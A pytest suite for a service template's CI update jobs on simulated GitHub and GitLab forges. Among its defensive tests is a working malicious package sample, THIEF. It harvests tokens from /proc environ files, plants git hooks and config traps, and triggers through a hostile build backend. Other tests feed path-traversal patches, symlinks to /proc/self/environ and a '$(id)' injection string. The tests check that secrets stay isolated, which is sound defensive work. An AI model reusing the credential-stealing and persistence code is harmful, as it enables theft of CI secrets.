"""The CI jobs of a service on GitHub and GitLab: tests, image, and proposed updates.

The shell steps of the rendered files run in clones of a service, whose origin is a bare repository. The template is a
clone with additional releases. The forges are simulated: `gh` is a script that records its arguments, and for GitLab the
bare repository records push options.
"""

import functools
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
from base64 import b64encode
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from offered import marked
from support import TEMPLATE, edit, git

# Both run the same script; how they differ is tested with each change.
FORGES = ["github", "gitlab"]
SLOW_ON_GITLAB = marked(FORGES, ["github"])
OLD, NEW, NEWER = "v1000.0.0", "v1000.1.0", "v1000.2.0"
BRANCH = "template-update"
OWN_TOKEN = "own-token"
JOB_TOKEN = "job-token"

GH = """#!/usr/bin/env python3
import json, os, pathlib, sys
arguments, log = sys.argv[1:], pathlib.Path(os.environ["GH_LOG"])
call = {"arguments": arguments, "body": sys.stdin.read() if arguments[-1] == "-" else None, "token": os.environ["GH_TOKEN"]}
opened = '"create"' in log.read_text() if log.exists() else False
with log.open("a") as file:
    print(json.dumps(call), file=file)
if arguments[:2] == ["pr", "list"] and opened:
    print(1)
if arguments[:2] == ["pr", "create"] and os.environ.get("GH_REFUSES"):
    sys.exit("GitHub Actions is not permitted to create or approve pull requests")
"""

# A malicious package or test: it searches for the token, and installs traps for a later process that has it.
THIEF = """import os
import pathlib
import subprocess

TRAP = '#!/bin/sh\\n{ echo TRAPPED; env; } >>"$STOLEN"\\n'


def steal(place: str) -> None:
    with open(os.environ["STOLEN"], "ab") as stolen:
        stolen.write(place.encode() + b"\\n")
        process = "self"
        while process != "0":
            stolen.write(pathlib.Path(f"/proc/{process}/environ").read_bytes() + b"\\n")
            stat = pathlib.Path(f"/proc/{process}/stat").read_text()
            process = stat.rpartition(")")[2].split()[1]
    checkout = pathlib.Path(os.environ["CHECKOUT"])
    names = ["pre-push", "pre-commit", "post-checkout", "reference-transaction"]
    for trap in [*(f".git/hooks/{name}" for name in names), "trap", ".ci/update", ".ci/with-token"]:
        (checkout / trap).unlink(missing_ok=True)
        (checkout / trap).write_text(TRAP)
        (checkout / trap).chmod(0o755)
    trap = str(checkout / "trap")
    for key in ["core.fsmonitor", "filter.trap.clean", "core.sshCommand", "credential.helper", "diff.external"]:
        subprocess.run(["git", "-C", checkout, "config", key, trap], check=True)
    for alias in ["apply", "push", "fetch", "show"]:
        subprocess.run(["git", "-C", checkout, "config", f"alias.{alias}", f"!{trap}"], check=True)
    (checkout / ".git/info/attributes").write_text("* filter=trap\\n")
"""
BACKEND = """import zipfile

from thief import steal

INFO = {
    "METADATA": "Metadata-Version: 2.1\\nName: thief\\nVersion: 1\\n",
    "WHEEL": "Wheel-Version: 1.0\\nGenerator: thief\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
    "RECORD": "",
}


def build_wheel(folder, config_settings=None, metadata_directory=None):
    steal("BUILD")
    with zipfile.ZipFile(f"{folder}/thief-1-py3-none-any.whl", "w") as wheel:
        wheel.write("thief.py")
        for name, text in INFO.items():
            wheel.writestr(f"thief-1.dist-info/{name}", text)
    return "thief-1-py3-none-any.whl"
"""
BACKEND_PROJECT = """[project]
name = "thief"
dynamic = ["version"]

[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""

HOOK = """#!/bin/sh
env | grep '^GIT_PUSH_OPTION_[0-9]' | cut -d= -f2- >>"$GIT_DIR/push-options"
"""


def release(template: Path, version: str, *changes: tuple[str, str]) -> None:
    """Append texts to files of a template, commit and tag them."""
    for name, text in changes:
        (template / name).parent.mkdir(exist_ok=True)
        with (template / name).open("a", encoding="utf-8") as file:
            file.write(text)
    git(template, "add", "--all", "--force")
    git(template, "commit", "--quiet", "--allow-empty", f"--message={version}")
    git(template, "tag", version)


@dataclass
class Project:
    """A service on a forge, and its template."""

    forge: str
    folder: Path
    template: Path
    env: dict[str, str]

    @property
    def origin(self) -> Path:
        """Return the service's repository on the forge."""
        return self.folder / "origin.git"

    def change(self, *changes: tuple[str, str], branch: str = "main") -> None:
        """Append texts to the service's files with a commit on a branch, like its team."""
        clone = self.folder / "team"
        shutil.rmtree(clone, ignore_errors=True)
        git(self.folder, "clone", "--quiet", "--branch", branch, self.origin, clone)
        release(clone, f"change-{len(git(clone, 'tag'))}", *changes)
        git(clone, "push", "--quiet", "origin", branch)

    def run(self, *jobs: str, token: str = OWN_TOKEN, **env: str) -> tuple[int, str]:
        """Run jobs until a step fails; return the last exit status, and all output."""
        output = ""
        for job in jobs:
            for script, step_env in self.steps(job, token):
                result = subprocess.run(
                    # The shells of both forges stop at the first failing command.
                    ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                    cwd=self.workspace,
                    env={**self.env, "CI": "true", **step_env, **env},
                    stdin=subprocess.DEVNULL,
                    stdout=subprocess.PIPE,
                    stderr=subprocess.STDOUT,
                    text=True,
                    check=False,
                )
                output += result.stdout
                if result.returncode:
                    return result.returncode, output
        return 0, output

    def update(self, token: str = OWN_TOKEN, **env: str) -> tuple[int, str]:
        """Run the jobs of an update."""
        return self.run("template", "update", "propose", token=token, **env)

    def propose(self, token: str = OWN_TOKEN, **env: str) -> tuple[int, str]:
        """Run the last job, on the output of `hand_over` or of the previous job."""
        return self.run("propose", token=token, **env)

    def hand_over(self, *changes: tuple[str, str], version: str = NEW, changelog: str = "", failed: str = "") -> Path:
        """Write the artifact of an update that appends texts to files; return its folder."""
        folder, clone = self.artifacts / "update", self.folder / "update"
        shutil.rmtree(folder, ignore_errors=True)
        shutil.rmtree(clone, ignore_errors=True)
        folder.mkdir(parents=True)
        git(self.folder, "clone", "--quiet", self.origin, clone)
        edit(clone / ".copier-answers.yml", ("_commit: [^\n]*", f"_commit: {version}"))
        for name, text in changes:
            with (clone / name).open("a", encoding="utf-8") as file:
                file.write(text)
        git(clone, "add", "--all", "--force")
        git(clone, "diff", "--cached", "--binary", "--full-index", f"--output={folder / 'update.patch'}")
        (folder / "changes").write_text(changelog)
        (folder / "failed").write_text(failed)
        return folder

    @property
    def workspace(self) -> Path:
        """Return the working directory of jobs."""
        return Path(self.env["WORKSPACE"])

    @property
    def artifacts(self) -> Path:
        """Return the folder with the jobs' artifacts, one subfolder per name."""
        return self.folder / "artifacts"

    def checkout(self) -> None:
        """Clone the service afresh."""
        shutil.rmtree(self.workspace, ignore_errors=True)
        git(self.folder, "clone", "--quiet", "--depth=1", f"file://{self.origin}", self.workspace)

    def steps(self, job: str, token: str) -> Iterator[tuple[str, dict[str, str]]]:
        """Yield the script and environment of each shell step of a job, and simulate the other steps."""
        return (self.github_steps if self.forge == "github" else self.gitlab_steps)(job, token)

    def github_steps(self, job: str, token: str) -> Iterator[tuple[str, dict[str, str]]]:
        """Yield a job's shell steps, on a new machine with this machine's Python."""
        temp = self.folder / "runner-temp"
        shutil.rmtree(temp, ignore_errors=True)
        temp.mkdir()
        for file in (self.folder / "service/.github/workflows").glob("*.yml"):
            workflow = yaml.safe_load(file.read_text(encoding="utf-8"))
            if job in workflow["jobs"]:
                break
        expressions = {"secrets.TEMPLATE_UPDATE_TOKEN": token, "github.token": JOB_TOKEN, "runner.temp": str(temp)}

        def expand(text: str) -> str:
            return re.sub(r"\$\{\{ (.*?) \}\}", lambda found: expressions[found[1]], text)

        for step in workflow["jobs"][job]["steps"]:
            action = step.get("uses", "").partition("@")[0]
            if action == "actions/checkout":
                assert step["with"] == {"persist-credentials": False}
                self.checkout()
            elif action == "actions/upload-artifact":
                artifact = self.artifacts / step["with"]["name"]
                shutil.rmtree(artifact, ignore_errors=True)
                shutil.copytree(expand(step["with"]["path"]), artifact, symlinks=True)
            elif action == "actions/download-artifact":
                shutil.copytree(
                    self.artifacts / step["with"]["name"],
                    expand(step["with"]["path"]),
                    symlinks=True,
                    dirs_exist_ok=True,
                )
            elif action:
                assert action == "actions/setup-python"
            else:
                assert "${{" not in step["run"]
                step_env = {**workflow["env"], **step.get("env", {})}
                yield (
                    step["run"],
                    {
                        **{"GITHUB_ACTIONS": "true", "GITHUB_REF_NAME": "main", "RUNNER_TEMP": str(temp)},
                        "GITHUB_SERVER_URL": "https://github.com",
                        **{name: expand(text) for name, text in step_env.items()},
                    },
                )

    def gitlab_steps(self, job: str, token: str) -> Iterator[tuple[str, dict[str, str]]]:
        """Yield a job's only script, on a runner that keeps its folder; the token's scope is one environment."""
        pipeline = yaml.safe_load((self.folder / "service/.gitlab-ci.yml").read_text(encoding="utf-8"))
        section = pipeline[{"test": "tests"}.get(job, job)]
        section = {**pipeline["default"], **pipeline.get(section.get("extends"), {}), **section}
        variables = {**pipeline["variables"], **section.get("variables", {})}
        if variables.get("GIT_STRATEGY") != "none":
            self.checkout()
            git(self.workspace, "checkout", "--quiet", "--detach")
        for artifact in {self.artifacts / needed for needed in section.get("needs", [])}:
            shutil.copytree(artifact, self.workspace / "handover", symlinks=True, dirs_exist_ok=True)
        scoped = section.get("environment") == {"name": "template-update", "action": "access"}
        yield (
            "\n".join([*section["before_script"], *section["script"]]),
            {
                **{"GITLAB_CI": "true", "CI_COMMIT_BRANCH": "main", "CI_SERVER_URL": "https://gitlab.com"},
                "CI_COMMIT_SHA": self.branches["main"],
                "CI_PROJECT_DIR": str(self.workspace),
                "CI_PROJECT_URL": f"file://{self.origin}".removesuffix(".git"),
                "CI_REPOSITORY_URL": f"file://{self.origin}",
                **variables,
                **({"TEMPLATE_UPDATE_TOKEN": token} if token and scoped else {}),
            },
        )
        for path in section.get("artifacts", {}).get("paths", []):
            shutil.rmtree(self.artifacts / job, ignore_errors=True)
            shutil.copytree(self.workspace / path, self.artifacts / job, symlinks=True)

    @property
    def calls(self) -> list[dict]:
        """Return the recorded calls of `gh`."""
        log = Path(self.env["GH_LOG"])
        return [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []

    @property
    def requests(self) -> list[tuple[str, str, str]]:
        """Return the verb, title and body with which each request was opened or refreshed."""
        if self.forge == "github":
            return [
                (call["arguments"][1], call["arguments"][call["arguments"].index("--title") + 1], call["body"])
                for call in self.calls
                if call["arguments"][:2] in (["pr", "create"], ["pr", "edit"])
            ]
        log = self.origin / "push-options"
        options = [line.partition("=") for line in log.read_text().splitlines()] if log.exists() else []
        titles = [text for name, _, text in options if name == "merge_request.title"]
        bodies = [text.replace("\\n", "\n") for name, _, text in options if name == "merge_request.description"]
        assert [name for name, _, _ in options].count("merge_request.create") == len(titles)
        assert [text for name, _, text in options if name == "merge_request.target"] == ["main"] * len(titles)
        return [
            ("create" if number == 0 else "edit", *pair) for number, pair in enumerate(zip(titles, bodies, strict=True))
        ]

    @property
    def branches(self) -> dict[str, str]:
        """Return the forge's commits, by branch."""
        lines = git(self.origin, "for-each-ref", "--format=%(refname:short) %(objectname)", "refs/heads")
        return dict(line.split() for line in lines.splitlines())

    def proposed(self, name: str) -> str:
        """Return the text of a file on the proposed branch."""
        return git(self.origin, "show", f"{BRANCH}:{name}")


@pytest.fixture(scope="session")
def job_env(user_env: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """Return a job's environment: a new Python with pip on PATH, nothing of this project, no Git identity."""
    venv = tmp_path_factory.mktemp("python")
    # Debian's Python has no ensurepip, which `python -m venv` needs: uv fetches pip.
    subprocess.run(["uv", "venv", "--quiet", "--seed", "--python", user_env["UV_PYTHON"], venv], check=True)
    rest = [place for place in user_env["PATH"].split(os.pathsep) if not Path(place).is_relative_to(TEMPLATE)]
    env = {name: text for name, text in user_env.items() if name not in {"UV_PYTHON", "CI"}}
    # With a shared folder and these two caches, jobs take half the time.
    caches = {"MYPY_CACHE_DIR": f"{venv}/mypy", "PYTHONPYCACHEPREFIX": f"{venv}/bytecode"}
    return {
        **{**env, **caches, "GIT_CONFIG_GLOBAL": os.devnull},
        "PATH": os.pathsep.join([f"{venv}/bin", *rest]),
        "WORKSPACE": f"{venv}/workspace",
    }


@pytest.fixture(scope="session")
def first_version(template_clone: Path, user_env: dict[str, str], tmp_path_factory: pytest.TempPathFactory):
    """Make the template's first version, and a service from it for each forge."""
    folder = tmp_path_factory.mktemp("first")
    template = folder / "template"
    git(folder, "clone", "--quiet", template_clone, template)
    (template / "CHANGELOG.md").write_text(f"# Changes\n\n## [{OLD[1:]}] - 2026-01-01\n\n- The first of all\n")
    release(template, OLD)
    for forge in FORGES:
        subprocess.run(
            [
                *(sys.executable, "-m", "copier", "copy", "--quiet", "--trust", "--defaults"),
                *(f"--vcs-ref={OLD}", f"--data=ci={forge}", template, folder / forge),
            ],
            env=user_env,
            check=True,
        )
        assert (folder / forge / "uv.lock").exists()
    return folder


@pytest.fixture
def project(first_version: Path, job_env: dict[str, str], tmp_path: Path) -> Callable[..., Project]:
    """Put a service on a forge, with its own copy of the template."""

    def project(forge: str, source: str | None = None) -> Project:
        template, service = tmp_path / "template", tmp_path / "service"
        shutil.copytree(first_version / "template", template)
        shutil.copytree(first_version / forge, service)
        edit(service / ".copier-answers.yml", ("_src_path: [^\n]*", f"_src_path: {source or template}"))
        git(service, "init", "--quiet", "--initial-branch=main")
        git(service, "add", "--all")
        git(service, "commit", "--quiet", "--message=Start from the template")
        git(tmp_path, "clone", "--quiet", "--bare", service, "origin.git")
        git(tmp_path / "origin.git", "config", "receive.advertisePushOptions", "true")
        (tmp_path / "origin.git/hooks/post-receive").write_text(HOOK)
        (tmp_path / "origin.git/hooks/post-receive").chmod(0o755)
        (tmp_path / "bin").mkdir()
        (tmp_path / "bin/gh").write_text(GH)
        (tmp_path / "bin/gh").chmod(0o755)
        env = {**job_env, "PATH": f"{tmp_path}/bin:{job_env['PATH']}", "GH_LOG": str(tmp_path / "gh.jsonl")}
        return Project(forge, tmp_path, template, env)

    return project


@pytest.mark.parametrize("forge", FORGES)
def test_a_new_service_passes_its_own_pipeline(forge, project):
    status, output = project(forge).run("test")

    assert status == 0, output
    assert " passed" in output
    assert "Success: no issues found" in output


@pytest.mark.parametrize("forge", SLOW_ON_GITLAB)
def test_nothing_is_proposed_to_a_service_that_is_up_to_date(forge, project):
    service = project(forge)
    before = service.branches

    status, output = service.update()

    assert status == 0, output
    assert f"{OLD} is the template's latest version" in output
    assert (service.requests, service.branches) == ([], before)


@pytest.mark.parametrize(("forge", "token"), [("github", ""), ("github", OWN_TOKEN), ("gitlab", OWN_TOKEN)])
def test_a_newer_version_is_proposed_with_what_changed(forge, token, project):
    service = project(forge)
    edit(
        service.template / "CHANGELOG.md",
        ("## ", f"## [{NEW[1:]}] - 2026-02-01\n\n### Added\n\n- A better entry point\n\n## "),
    )
    release(
        service.template,
        NEW,
        ("template/docker-entrypoint.sh.jinja", "# better\n"),
        ("template/tests/test_new.py", "def test_new() -> None:\n    pass\n"),
    )
    service.change(("README.md", "\nOurs\n"))
    main = service.branches["main"]

    status, output = service.update(token)

    assert status == 0, output
    ((verb, title, body),) = service.requests
    assert (verb, title) == ("create", f"Update from the template: {OLD} to {NEW}")
    assert {".copier-answers.yml", "docker-entrypoint.sh", "tests/test_new.py"} == set(
        re.findall(r"^    (\S+) \+\d+ -\d+$", body, re.M)
    )
    assert "    ### Added\n    \n    - A better entry point\n" in body
    assert "The first of all" not in body
    assert service.branches.keys() == {"main", BRANCH}
    assert service.branches["main"] == main == git(service.origin, "rev-parse", f"{BRANCH}^")
    assert service.proposed("docker-entrypoint.sh").endswith("# better")
    assert service.proposed("README.md").endswith("Ours")
    assert f"_commit: {NEW}" in service.proposed(".copier-answers.yml")
    dispatched = [call["arguments"] for call in service.calls if call["arguments"][0] == "workflow"]
    # Only a push with GitHub's own token doesn't start the tests.
    assert dispatched == (
        [["workflow", "run", "test.yml", "--ref", BRANCH]] if (forge, token) == ("github", "") else []
    )
    assert {call["token"] for call in service.calls} <= {token or JOB_TOKEN}


@pytest.mark.parametrize("forge", SLOW_ON_GITLAB)
def test_third_party_code_neither_gets_the_token_nor_affects_the_job_with_it(forge, project):
    service = project(forge)
    thief, stolen = service.folder / "thief", service.folder / "stolen"
    thief.mkdir()
    (thief / "thief.py").write_text(THIEF)
    (thief / "backend.py").write_text(BACKEND)
    (thief / "pyproject.toml").write_text(BACKEND_PROJECT)
    edit(
        service.template / "template/pyproject.toml.jinja",
        (r"\ndependencies = \[\n", f'\ndependencies = [\n    "thief @ {thief.as_uri()}",\n'),
    )
    check = 'from thief import steal\n\n\ndef test_theft() -> None:\n    steal("CHECK")\n'
    release(service.template, NEW, ("template/tests/test_theft.py", check))

    status, output = service.update(STOLEN=str(stolen), CHECKOUT=str(service.workspace))

    assert BRANCH in service.branches, output
    assert "tests/test_theft.py" in service.requests[0][2]
    found = stolen.read_text()
    assert (status, "BUILD" in found, "CHECK" in found) == (1, True, True), output
    assert OWN_TOKEN not in found
    assert JOB_TOKEN not in found
    assert "TRAPPED" not in found


def test_an_update_refuses_to_run_with_access_to_the_token(project):
    service = project("gitlab")
    assert service.run("template")[0] == 0

    # As if the variable had no scope.
    status, output = service.run("update", TEMPLATE_UPDATE_TOKEN=OWN_TOKEN)

    assert status == 1
    assert "give the variable TEMPLATE_UPDATE_TOKEN the environment scope template-update" in output


@pytest.mark.parametrize("forge", SLOW_ON_GITLAB)
def test_a_conflict_fails_the_job_names_the_files_and_pushes_nothing(forge, project):
    service = project(forge)
    release(
        service.template,
        NEW,
        ("stacks/servers/uwsgi/files/etc/uwsgi.ini.jinja", "# theirs\n"),
        ("template/unmerged.txt", "<<<<<<< before updating\n"),
        ("template/notes/part.txt.rej", "part\n"),
    )
    service.change(("etc/uwsgi.ini", "# ours\n"))
    before = service.branches

    status, output = service.update()

    assert status == 1, output
    named = output.partition("conflicts with this service's own edits in\n")[2].partition("\nNothing was pushed")[0]
    assert named.splitlines() == ["etc/uwsgi.ini", "notes/part.txt.rej", "unmerged.txt"]
    assert (service.requests, service.branches) == ([], before)


@pytest.mark.parametrize("forge", SLOW_ON_GITLAB)
def test_failing_tests_are_proposed_as_such_and_fail_the_job(forge, project):
    service = project(forge)
    release(
        service.template, NEW, ("stacks/interfaces/wsgi/files/src/{{ package_name }}/access.py.jinja", "import os\n")
    )

    status, output = service.update()

    assert status == 1, output
    assert "it is proposed, but its tests fail" in output
    ((_, title, body),) = service.requests
    assert title == f"Draft: Update from the template: {OLD} to {NEW}, tests fail"
    assert body.startswith("These failed:\n\n    uv run ruff check\n    uv run ruff format --check\n\n")


@pytest.mark.parametrize("forge", FORGES)
def test_an_open_request_is_refreshed(forge, project):
    service = project(forge)
    service.hand_over(("docker-entrypoint.sh", "# better\n"))
    assert service.propose()[0] == 0
    proposed = service.branches
    assert service.propose()[0] == 0
    assert service.branches == proposed, "the same update is the same commit: no test runs again, no approval is lost"

    service.hand_over(("docker-entrypoint.sh", "# better still\n"), version=NEWER)
    status, output = service.propose()

    assert status == 0, output
    assert service.requests[-1][:2] == ("edit", f"Update from the template: {OLD} to {NEWER}")
    assert [verb for verb, _, _ in service.requests].count("create") == 1
    assert service.branches.keys() == {"main", BRANCH}
    assert service.proposed("docker-entrypoint.sh").endswith("# better still")


def test_work_on_the_branch_is_never_overwritten(project):
    service = project("gitlab")
    service.hand_over()
    assert service.propose()[0] == 0
    service.change(("README.md", "\nMended\n"), branch=BRANCH)
    before = service.branches
    service.hand_over(version=NEWER)

    status, output = service.propose()

    assert status == 1
    assert f"the branch {BRANCH} has other commits: merge it, or delete it" in output
    assert service.branches == before


def test_a_change_of_workflows_requires_a_token_that_may_push_it(project):
    service = project("github")
    service.hand_over((".github/workflows/test.yml", "# changed\n"))
    before = service.branches

    status, output = service.propose(token="")
    assert status == 1
    assert (
        ".github/workflows/test.yml\nStore a token with this permission as the secret TEMPLATE_UPDATE_TOKEN" in output
    )
    assert service.branches == before

    status, output = service.propose()
    assert status == 0, output
    assert service.proposed(".github/workflows/test.yml").endswith("# changed")


def test_a_refused_pull_request_reports_the_setting_to_change(project):
    service = project("github")
    service.hand_over()

    status, output = service.propose(token="", GH_REFUSES="1")

    assert status == 1
    assert "Allow GitHub Actions to create pull requests" in output


def test_gitlab_without_a_token_reports_the_missing_variable(project):
    service = project("gitlab")
    service.hand_over()
    before = service.branches

    status, output = service.propose(token="")

    assert status == 1
    assert "TEMPLATE_UPDATE_TOKEN is not set" in output
    assert service.branches == before


FILE = """diff --git a/{0} b/{0}
new file mode {1}
index 0000000000000000000000000000000000000000..{2}
--- /dev/null
+++ b/{0}
@@ -0,0 +1 @@
+{3}
"""


def patch(name: str, mode: str = "100755", text: str = "x") -> str:
    """Return a patch that adds a file with one line."""
    return FILE.format(name, mode, "1" * 40, text)


@pytest.mark.parametrize("forge", FORGES)
@pytest.mark.parametrize(
    ("change", "reason"),
    [
        pytest.param(patch(".git/hooks/pre-push"), "the update doesn't apply", id="hook"),
        pytest.param(patch("docs/.GIT/config"), "the update doesn't apply", id="configuration"),
        pytest.param(patch("../outside"), "the update doesn't apply", id="outside"),
        pytest.param(patch("link", "120000", "/etc"), "the update holds more than files", id="link"),
        pytest.param(
            patch("module", "160000", f"Subproject commit {'1' * 40}"), "the update holds more than files", id="module"
        ),
        pytest.param(patch("big", text="x" * 10_000_000), "the update is larger than 10 MB", id="size"),
        pytest.param(
            "diff --git a/missing b/missing\n--- a/missing\n+++ b/missing\n@@ -1 +1 @@\n-a\n+b\n",
            "the update doesn't apply",
            id="other base",
        ),
    ],
)
def test_nothing_but_files_of_the_service_is_proposed(forge, change, reason, project):
    service = project(forge)
    with (service.hand_over() / "update.patch").open("a") as file:
        file.write(change)
    before = service.branches

    status, output = service.propose()

    assert status == 1, output
    assert reason in output
    assert (service.requests, service.branches) == ([], before)


@pytest.mark.parametrize("version", ["", "v1 fixes #1", "$(id)", "@someone"])
def test_an_invalid_version_is_not_proposed(version, project):
    service = project("github")
    service.hand_over(version=version)

    status, output = service.propose()

    assert status == 1
    assert "aren't valid versions" in output
    assert service.branches.keys() == {"main"}


@pytest.mark.parametrize("forge", FORGES)
@pytest.mark.parametrize("name", ["changes", "failed", "update.patch"])
def test_a_link_to_the_token_is_not_followed(forge, name, project):
    service = project(forge)
    file = service.hand_over() / name
    file.unlink()
    file.symlink_to("/proc/self/environ")

    status, output = service.propose()

    assert status == 1
    assert "is not as .ci/update writes it" in output
    assert (service.requests, service.branches.keys()) == ([], {"main"})


@pytest.mark.parametrize("forge", FORGES)
def test_text_of_the_template_triggers_no_action_of_the_forge(forge, project):
    service = project(forge)
    acting = [
        *("@someone", "org/team@someone", "#1", "org/repo#1", "GH-1", "gh-1", "project!1", "&1", "ABC-1", "[skip ci]"),
        *("[ci skip]", "[no ci]", "[Skip-CI]", "https://github.com/org/repo/issues/1", "/-/merge_requests/1", "<!--"),
    ]
    text = "".join(f"Fixes {one}\n" for one in acting)
    text += "\n/close\n/merge\n\\n/approve\rCo-authored-by: A <a@example.com>\n```\n</pre>\x1b[2J\n" + "x" * 70_000
    service.hand_over((".envrc", "# ours\n"), changelog=text, failed="@someone\nuv run mypy\n")

    service.propose()

    ((_, _, body),) = service.requests
    outside, inside = re.split(r"^(?=    )", body, maxsplit=1, flags=re.M)
    assert outside == "These failed:\n\n"
    assert [line for line in inside.splitlines() if line and not line.startswith("    ")] == [
        "What changed in the template:",
        "What changed in this service, by lines:",
    ]
    assert not [one for one in acting[:-1] if re.search(rf"(?<![\w/]){re.escape(one)}", body)]
    assert not re.search(r"[@#!&]\w|[\x00-\x09\x0b-\x1f\x7f]|\\n", body)
    assert len(body) < 65_536, "GitHub takes no more"
    message = git(service.origin, "log", "-1", "--format=%B", BRANCH)
    assert message == f"Draft: Update from the template: {OLD} to {NEW}, tests fail"


@pytest.mark.parametrize("forge", FORGES)
def test_a_workflow_of_an_earlier_release_fails_with_this_script(forge, project):
    service = project(forge)
    for old in ([".ci/update", "make"], [".ci/update", "propose"]):
        service.checkout()
        result = subprocess.run(
            old,
            cwd=service.workspace,
            env={**service.env, "TEMPLATE_UPDATE_TOKEN": OWN_TOKEN, "GITHUB_TOKEN": JOB_TOKEN},
            capture_output=True,
            text=True,
            check=False,
        )
        assert result.returncode == 1
        assert "its workflow is older than this file: update the service by hand" in result.stderr
        assert (service.requests, service.branches.keys()) == ([], {"main"})


def test_copier_in_ci_has_exactly_the_pinned_versions(project):
    service = project("github")
    service.checkout()
    pinned = re.findall("^(.+)==(.+)$", (service.workspace / ".ci/copier.txt").read_text(), re.M)
    listed = "import importlib.metadata as m; print(*(f'{d.name}=={d.version}' for d in m.distributions()))"

    for python in (sys.executable, shutil.which("python", path=service.env["PATH"])):
        installed = subprocess.run(
            ["uvx", "--no-build", "--python", python, "--with-requirements", ".ci/copier.txt", "python", "-c", listed],
            cwd=service.workspace,
            env=service.env,
            check=True,
            stdout=subprocess.PIPE,
            text=True,
        ).stdout.split()
        versions = dict(one.split("==") for one in installed)
        assert {re.sub("[-_.]+", "-", name.lower()): version for name, version in versions.items()} == dict(pinned)


@contextmanager
def private_server(folder: Path) -> Iterator[str]:
    """Serve a folder over HTTP to clients with the token; yield its address."""
    expected = "Basic " + b64encode(f"x-access-token:{OWN_TOKEN}".encode()).decode()

    class Handler(http.server.SimpleHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.headers["Authorization"] == expected:
                return super().do_GET()
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="private"')
            self.send_header("Content-Length", "0")
            return self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Handler, directory=folder)) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}"
        finally:
            server.shutdown()
            thread.join()


def test_a_private_template_is_read_with_the_token(project, tmp_path):
    with private_server(tmp_path) as address:
        service = project("github", f"{address}/template.git")
        release(service.template, NEW, ("template/docker-entrypoint.sh.jinja", "# better\n"))
        git(tmp_path, "clone", "--quiet", "--bare", service.template, "template.git")
        git(tmp_path / "template.git", "update-server-info")
        # Only the forge's own server receives the token.
        forge = {"GITHUB_SERVER_URL": address}

        for token, env in (("", forge), (OWN_TOKEN, {})):
            status, output = service.update(token, **env)
            assert status == 1
            assert "A private template needs TEMPLATE_UPDATE_TOKEN" in output

        status, output = service.update(**forge)

    assert status == 0, output
    assert service.proposed("docker-entrypoint.sh").endswith("# better")
